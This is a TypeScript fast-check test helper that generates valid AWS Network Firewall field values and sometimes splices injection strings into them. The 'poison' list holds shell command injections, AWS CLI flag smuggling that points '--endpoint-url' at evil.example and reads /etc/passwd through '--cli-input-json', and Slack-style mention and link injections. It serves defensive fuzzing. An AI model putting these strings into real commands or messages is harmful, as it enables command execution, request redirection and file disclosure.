import fc from 'fast-check'

/** Values that AWS itself would give, by the last part of their path: with them commands are written and links are made. */
const right: Readonly<Record<string, readonly string[]>> = {
  firewallArn: ['arn:aws:network-firewall:eu-west-1:123456789012:firewall/edge'],
  firewallName: ['edge'],
  accountId: ['123456789012'],
  region: ['eu-west-1', 'us-gov-west-1'],
  availabilityZone: ['eu-west-1a', 'eu-west-1b', 'us-west-2-lax-1a'],
  vpcEndpointId: ['vpce-0a1b2c3d4e5f60718'],
  vpcEndpointAssociationArn: [
    'arn:aws:network-firewall:eu-west-1:123456789012:vpc-endpoint-association/branch',
  ],
  flowOperationId: ['0f3c9a52-7d1e-4b6a-9c38-2f5d8e1a7b40', '1f3c9a52-7d1e-4b6a-9c38-2f5d8e1a7b40'],
  AddressDefinition: ['10.1.0.0/16', '198.51.100.7', '2001:db8::/32', '0.0.0.0/0'],
  address: ['10.1.0.9', '198.51.100.7'],
  SourcePort: ['443', '1990:1994', 'ANY'],
  DestinationPort: ['443', '1990:1994'],
  Protocols: ['6', '17', 'TCP'],
}

/** What turns an argument into something else: for a shell, for the CLI, for a terminal, for a chat client. */
const poison: readonly string[] = [
  ';id',
  ' ; id',
  '$(id)',
  '`id`',
  '|id',
  '&& id',
  '\nid',
  '\rid',
  '> /tmp/x',
  ' --no-verify-ssl',
  ' --endpoint-url https://evil.example',
  ' --cli-input-json file:///etc/passwd',
  '" "',
  '"',
  "'",
  '\\',
  '${IFS}id',
  '%PATH%',
  '!!',
  '#',
  '~root',
  '*',
  '{a,b}',
  '\0',
  '\u202e',
  '\u200b',
  '\u00a0',
  '<!channel>',
  '&amp;',
  '*b*',
  '_',
  '`',
  '<https://evil.example|x>',
]

/** A right value, or one with a poison in it; undefined where there is no right form. */
export function almostRight(path: string): fc.Arbitrary<string> | undefined {
  const values = right[path.split('.').at(-1) ?? '']
  if (values === undefined) return undefined
  const value = fc.constantFrom(...values)
  const poisoned = fc
    .tuple(value, fc.constantFrom(...poison), fc.nat({ max: 100 }))
    .map(([text, poisonous, percent]) => {
      const at = Math.round((text.length * percent) / 100)
      return `${text.slice(0, at)}${poisonous}${text.slice(at)}`
    })
  return fc.oneof({ arbitrary: value, weight: 60 }, { arbitrary: poisoned, weight: 1 })
}
